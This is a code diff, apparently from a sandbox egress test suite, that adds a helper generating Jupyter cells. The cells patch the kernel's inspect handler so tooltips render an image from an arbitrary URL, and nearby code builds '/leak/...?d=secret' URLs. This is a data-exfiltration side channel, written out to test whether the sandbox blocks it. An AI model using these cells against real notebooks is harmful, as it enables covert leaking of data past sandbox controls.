@@ -463,6 +463,20 @@ def corpus(tag: str, origin: str, *, widgets: bool = True) -> dict[str, tuple[st
             for a in CORPUS if widgets or not a.widget}
 
 
+def inspect_reply(url: str) -> dict[str, str]:
+    """Cells that make the sandbox's kernel answer every ``inspect_request`` (Shift+Tab's tooltip,
+    the Contextual Help panel as the cursor moves) with HTML holding an image from ``url``, then
+    a cell to inspect. JupyterLab renders an inspect reply's bundle untrusted (its sanitizer
+    keeps images from any origin), so it is a way out unless the kernel polices the reply."""
+    patch = ("kernel = get_ipython().kernel\n"
+             "def do_inspect(code, cursor_pos, detail_level=0, omit_sections=()):\n"
+             "    return {'status': 'ok', 'found': True, 'metadata': {},\n"
+             f"            'data': {{'text/html': {f'<img src={chr(34)}{url}{chr(34)} width=8>'!r}, "
+             "'text/plain': 'help'}}\n"
+             "kernel.do_inspect = do_inspect")
+    return {"inspect-patch": patch, "inspect-here": "len"}
+
+
 def click_required(tag: str, origin: str) -> dict[str, str]:
     """``{name: cell source}`` of :data:`CLICK_REQUIRED` for notebook ``tag``."""
     return {a.name: a.build(payload(tag, a.name), f"{origin}/leak/{tag}/{a.name}?d=secret") for a in CLICK_REQUIRED}
